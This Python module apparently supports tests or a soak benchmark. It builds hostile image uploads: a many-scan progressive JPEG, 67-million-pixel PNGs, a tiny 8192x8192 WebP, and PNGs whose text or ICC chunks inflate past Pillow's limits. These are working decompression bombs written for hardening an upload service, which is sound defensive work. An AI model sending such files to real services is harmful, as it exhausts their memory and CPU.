"""Hostile uploads built from their recipe (nothing stored): each function returns the bytes of one
bomb of issue 22's findings 1-3, small on the wire and costly to decode.

Self-contained (the standard library only; Pillow is not needed to build any of them), so that
``bench/bench_soak.py`` can use them as they are. The names are stable.

* :func:`jpeg_scan_bomb` -- a progressive JPEG with hundreds of tiny scans, each walked over every
  block by a decoder (CPU).
* :func:`png_tall` / :func:`png_wide` -- a 1x67,108,864 and a 67,108,864x1 PNG of zeros
  (memory: a decoder's row pointers, or one 64 MB row).
* :func:`webp_lossless_bomb` -- an 8192x8192 lossless WebP of a few dozen bytes (memory, CPU).
* :func:`png_iccp_bomb` / :func:`png_ztxt_bomb` -- an iCCP or zTXt chunk that inflates past
  Pillow's 1 MB limit on one ancillary chunk.
* :func:`png_many_ztxt` -- thousands of zTXt chunks, each inflating to about 1 MB (past Pillow's
  64 MB limit on all text chunks, and gigabytes to inflate).
"""

from __future__ import annotations

import struct
import zlib

__all__ = [
    "JPEG_SIDE",
    "TALL",
    "jpeg_scan_bomb",
    "png_chunk",
    "png_iccp_bomb",
    "png_many_ztxt",
    "png_tall",
    "png_wide",
    "png_ztxt_bomb",
    "small_png",
    "webp_lossless_bomb",
]

JPEG_SIDE = 8192  # the bombs' side: within a pixel limit of 8192 x 8192
TALL = 67_108_864  # 8192 * 8192: the long side of the one-pixel-wide (or -high) PNGs

_PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


# --- PNG ------------------------------------------------------------------------------------


def png_chunk(kind: bytes, body: bytes) -> bytes:
    """One PNG chunk: length, type, body, CRC."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _zeros_deflated(total: int, level: int = 9) -> bytes:
    """``total`` zero bytes as one zlib stream, compressed piece by piece (never all in memory)."""
    packer = zlib.compressobj(level)
    piece = bytes(1 << 20)
    out = []
    left = total
    while left:
        step = min(left, len(piece))
        out.append(packer.compress(piece[:step] if step < len(piece) else piece))
        left -= step
    out.append(packer.flush())
    return b"".join(out)


def _png(width: int, height: int, colour: int, idat: bytes, before: bytes = b"", after: bytes = b"") -> bytes:
    """A PNG of 8-bit ``colour`` type whose image data is ``idat`` (one zlib stream), with chunks
    ``before`` the image data (after IHDR) and ``after`` it (before IEND)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    return (_PNG_SIGNATURE + png_chunk(b"IHDR", ihdr) + before + png_chunk(b"IDAT", idat) + after
            + png_chunk(b"IEND", b""))


def small_png(side: int = 64, colour: int = 6, *, before: bytes = b"", after: bytes = b"") -> bytes:
    """A ``side`` x ``side`` PNG of zeros (RGBA by default: transparent black), with extra chunks
    ``before`` or ``after`` its image data: the carrier of the chunk bombs."""
    samples = {0: 1, 2: 3, 4: 2, 6: 4}[colour]
    raw = side * (1 + side * samples)
    return _png(side, side, colour, zlib.compress(bytes(raw), 9), before, after)


def png_tall(height: int = TALL, colour: int = 0) -> bytes:
    """Recipe: a 1 x ``height`` 8-bit PNG (grey by default; 2 for RGB) whose IDAT is the zlib
    stream of its all-zero rows (each a filter byte 0 and one pixel), at level 9: about 130 KB
    (grey) for 67,108,864 rows. Inside an 8192 x 8192 pixel limit, yet a decoder keeps one pointer
    and one allocation per row (gigabytes)."""
    samples = {0: 1, 2: 3, 6: 4}[colour]
    return _png(1, height, colour, _zeros_deflated(height * (1 + samples)))


def png_wide(width: int = TALL, colour: int = 0) -> bytes:
    """Recipe: a ``width`` x 1 8-bit PNG (grey by default) whose IDAT is the zlib stream of its
    one all-zero row (a filter byte and ``width`` samples), at level 9: about 65 KB for
    67,108,864 pixels; one 64 MB row to decode, and several copies of it to render."""
    samples = {0: 1, 2: 3, 6: 4}[colour]
    return _png(width, 1, colour, _zeros_deflated(1 + width * samples))


def png_iccp_bomb(inflated: int = 2 << 20, *, side: int = 64) -> bytes:
    """Recipe: a small RGBA PNG with an iCCP chunk before its image data ("bomb", compression 0,
    then a zlib stream of ``inflated`` zero bytes; default 2 MB, past Pillow's 1 MB limit on an
    ancillary chunk); a few KB on the wire."""
    body = b"bomb\x00\x00" + _zeros_deflated(inflated)
    return small_png(side, before=png_chunk(b"iCCP", body))


def png_ztxt_bomb(inflated: int = 2 << 20, *, side: int = 64, after_image: bool = False) -> bytes:
    """Recipe: a small RGBA PNG with one zTXt chunk ("Comment", compression 0, then a zlib stream
    of ``inflated`` spaces; default 2 MB, past Pillow's 1 MB limit), before its image data or
    ``after_image``."""
    chunk = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b" " * inflated, 9))
    return small_png(side, before=b"" if after_image else chunk, after=chunk if after_image else b"")


def png_many_ztxt(count: int = 3000, inflated: int = (1 << 20) - 64, *, side: int = 64,
                  after_image: bool = False) -> bytes:
    """Recipe: a small RGBA PNG with ``count`` zTXt chunks (default 3,000), each a zlib stream of
    ``inflated`` spaces (default just under 1 MB, Pillow's limit on one chunk): about 1 KB each on
    the wire, ~3 GB to inflate in all, past Pillow's 64 MB limit on all text chunks. Before the
    image data by default, or ``after_image``."""
    one = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b" " * inflated, 9))
    chunks = one * count
    return small_png(side, before=b"" if after_image else chunks, after=chunks if after_image else b"")


# --- WebP -----------------------------------------------------------------------------------


class _LsbBits:
    """A bit writer, least significant bit first (VP8L's order)."""

    def __init__(self) -> None:
        self.value = 0
        self.count = 0

    def put(self, value: int, bits: int) -> None:
        self.value |= (value & ((1 << bits) - 1)) << self.count
        self.count += bits

    def bytes(self) -> bytes:
        return self.value.to_bytes((self.count + 7) // 8, "little")


def webp_lossless_bomb(width: int = JPEG_SIDE, height: int = JPEG_SIDE, *, padding: int = 0) -> bytes:
    """Recipe: a lossless (VP8L) WebP of ``width`` x ``height`` (default 8192 x 8192) written by
    hand: no transform, no colour cache, no meta prefix codes, and five "simple" prefix codes of one
    symbol each (green 0, red 0, blue 0, alpha 255, distance 0), so that every pixel is coded in
    zero bits -- the whole file is a few dozen bytes (``padding`` zero bytes may be appended inside
    the chunk, up to the "few KB" of the finding), and a decoder fills a 256 MB ARGB canvas."""
    bits = _LsbBits()
    bits.put(0x2F, 8)  # VP8L signature
    bits.put(width - 1, 14)
    bits.put(height - 1, 14)
    bits.put(1, 1)  # alpha is used
    bits.put(0, 3)  # version 0
    bits.put(0, 1)  # no transform
    bits.put(0, 1)  # no colour cache
    bits.put(0, 1)  # no meta prefix codes
    for symbol in (0, 0, 0, 255, 0):  # green(+length), red, blue, alpha, distance
        bits.put(1, 1)  # a simple code
        bits.put(0, 1)  # of one symbol
        bits.put(1, 1)  # written in 8 bits
        bits.put(symbol, 8)
    payload = bits.bytes() + bytes(padding)
    chunk = b"VP8L" + struct.pack("<I", len(payload)) + payload + (b"\x00" if len(payload) % 2 else b"")
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


# --- JPEG -----------------------------------------------------------------------------------


class _JpegBits:
    """An entropy-coded segment's bit writer: most significant bit first, a 0x00 stuffed after
    every 0xFF, padded with 1-bits at the end."""

    def __init__(self) -> None:
        self.out = bytearray()
        self.acc = 0
        self.count = 0

    def put(self, value: int, bits: int) -> None:
        self.acc = (self.acc << bits) | (value & ((1 << bits) - 1))
        self.count += bits
        while self.count >= 8:
            self.count -= 8
            byte = (self.acc >> self.count) & 0xFF
            self.out.append(byte)
            if byte == 0xFF:
                self.out.append(0)
        self.acc &= (1 << self.count) - 1

    def zeros(self, bits: int) -> None:
        """``bits`` 0-bits, quickly (the DC scan of a large image)."""
        head = (8 - self.count) % 8
        head = min(head, bits)
        if head:
            self.put(0, head)
            bits -= head
        if self.count == 0:
            self.out += bytes(bits // 8)
            bits %= 8
        if bits:
            self.put(0, bits)

    def finish(self) -> bytes:
        if self.count:
            self.put((1 << (8 - self.count)) - 1, 8 - self.count)
        return bytes(self.out)


def _segment(marker: int, body: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


# The AC table: the 15 end-of-band-run symbols EOB0..EOB14 (0x00, 0x10, ... 0xE0), 4 bits each
# (codes 0000 to 1110, in the order of the symbols).
_EOB_SYMBOLS = tuple(run << 4 for run in range(15))


def _eob_runs(bits: _JpegBits, blocks: int) -> None:
    """Code ``blocks`` all-zero blocks of one band as end-of-band runs (at most 32,767 each)."""
    left = blocks
    while left:
        run = min(left, 32767)
        r = run.bit_length() - 1
        bits.put(r, 4)  # EOBr's code is r itself: the table lists EOB0..EOB14 in order
        if r:
            bits.put(run - (1 << r), r)
        left -= run


def _jpeg_scans(count: int) -> list[tuple[int, int, int, int]]:
    """(Ss, Se, Ah, Al) of ``count`` AC scans of one component: each coefficient 1..63 its own
    band, first at Al 13 then refined bit by bit to Al 0 (63 x 14 = 882 valid scans); any more
    repeat the last refinement of each coefficient (a decoder warns and walks them all the same)."""
    scans = []
    for al in range(13, -1, -1):
        for k in range(1, 64):
            scans.append((k, k, 0 if al == 13 else al + 1, al))
    while len(scans) < count:
        k = 1 + (len(scans) - 882) % 63
        scans.append((k, k, 1, 0))
    return scans[:count]


def jpeg_scan_bomb(scans: int = 300, side: int = JPEG_SIDE) -> bytes:
    """Recipe: a grey progressive JPEG (SOF2) of ``side`` x ``side`` (default 8192 x 8192: 1,048,576
    blocks) written by hand: one DC scan in which every block's difference is 0 (a 1-bit code each:
    ~128 KB, most of the file), then ``scans - 1`` AC scans, each one coefficient's band (first
    scans, then successive-approximation refinements), every block of it all zero and coded as
    end-of-band runs of 32,767 blocks -- a few dozen bytes per scan, yet a decoder walks all
    1,048,576 blocks in each. ~160 KB for 300 scans; the cost grows with ``scans``."""
    if scans < 1:
        raise ValueError("at least the DC scan")
    blocks = ((side + 7) // 8) ** 2
    out = bytearray(b"\xff\xd8")
    out += _segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
    out += _segment(0xDB, b"\x00" + bytes([1] * 64))  # quantisation table 0: all ones
    out += _segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\x01\x11\x00")  # 1 component
    # DC table 0: one symbol (difference category 0) coded "0"; AC table 0: the EOB runs.
    out += _segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")
    out += _segment(0xC4, b"\x10" + bytes([0, 0, 0, 15] + [0] * 12) + bytes(_EOB_SYMBOLS))
    dc = _JpegBits()
    dc.zeros(blocks)
    out += _segment(0xDA, b"\x01\x01\x00" + bytes((0, 0, 0x00))) + dc.finish()
    for ss, se, ah, al in _jpeg_scans(scans - 1):
        ac = _JpegBits()
        _eob_runs(ac, blocks)
        out += _segment(0xDA, b"\x01\x01\x00" + bytes((ss, se, (ah << 4) | al))) + ac.finish()
    out += b"\xff\xd9"
    return bytes(out)
